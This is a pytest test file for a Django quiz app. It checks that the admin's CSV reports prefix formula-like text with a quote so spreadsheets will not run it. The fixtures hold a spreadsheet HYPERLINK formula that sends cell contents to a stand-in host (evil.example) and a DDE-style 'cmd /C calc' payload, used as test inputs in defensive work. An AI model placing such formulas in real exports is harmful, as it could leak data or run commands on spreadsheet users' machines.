"""The admin's reports download as CSV that a spreadsheet opens without running anything: text
from teachers, learners or imported questions that starts like a formula is written as text."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from quizapp.bank.models import Choice
from quizapp.classroom.models import Enrolment
from quizapp.classroom.services import assignment_create
from quizapp.quizzes.services import attempt_answer_save, attempt_start, attempt_submit
from tests.factories import (
    ChoiceQuestionFactory,
    ClassroomFactory,
    DeckFactory,
    QuizFactory,
    StudentFactory,
)

FORMULAS = ("=", "+", "-", "@", "\t", "\r")
TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
USERNAME = "-2+3"  # letters, digits and @.+-_ make a valid username
WRONG = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def reports(client, teacher):
    """A class whose student (named like a formula) took a quiz (titled like one), picking a
    wrong choice (worded like one) of a question in a deck (titled like one), which the
    submission put in their memory."""
    now = timezone.now()
    student = StudentFactory(username=USERNAME, date_joined=now - timedelta(days=30))
    deck = DeckFactory(title="+1 deck")
    question = ChoiceQuestionFactory(
        owner=teacher, deck=deck, choices=[("Yerevan", True), (WRONG, False)]
    )
    quiz = QuizFactory(owner=teacher, title=TITLE, questions=[question])
    classroom = ClassroomFactory(teachers=[teacher])
    Enrolment.objects.create(classroom=classroom, student=student, joined_at=now)
    assignment_create(classroom=classroom, quiz=quiz, due_at=now + timedelta(days=1), by=teacher)
    attempt = attempt_start(user=student, quiz=quiz)
    wrong = Choice.objects.get(question=question, text=WRONG)
    attempt_answer_save(attempt=attempt, question_id=question.pk, answer=wrong.pk)
    attempt_submit(attempt=attempt)
    client.force_login(teacher)
    return {
        "results": reverse("admin:classroom_classroom_results", args=[classroom.pk]),
        "memory": reverse("admin:classroom_classroom_memory", args=[classroom.pk]),
        "item analysis": reverse("admin:quizzes_quiz_item_analysis", args=[quiz.pk]),
    }


def rows_of(client, url) -> list[list[str]]:
    response = client.get(url + "?format=csv")
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("report", ["results", "memory", "item analysis"])
def test_no_report_cell_starts_like_a_formula(client, reports, report):
    cells = [cell for row in rows_of(client, reports[report]) for cell in row]
    assert [c for c in cells if c.startswith(FORMULAS) and not is_number(c)] == []


def test_formula_like_text_is_kept_behind_a_quote(client, reports):
    results = rows_of(client, reports["results"])
    assert results[0][1].startswith("'" + TITLE)
    assert results[1][0] == "'" + USERNAME
    memory = rows_of(client, reports["memory"])
    assert memory[1][0] == "'+1 deck"
    analysis = rows_of(client, reports["item analysis"])
    assert analysis[1][analysis[0].index("Wrong choices picked")] == f"'{WRONG}: 1"
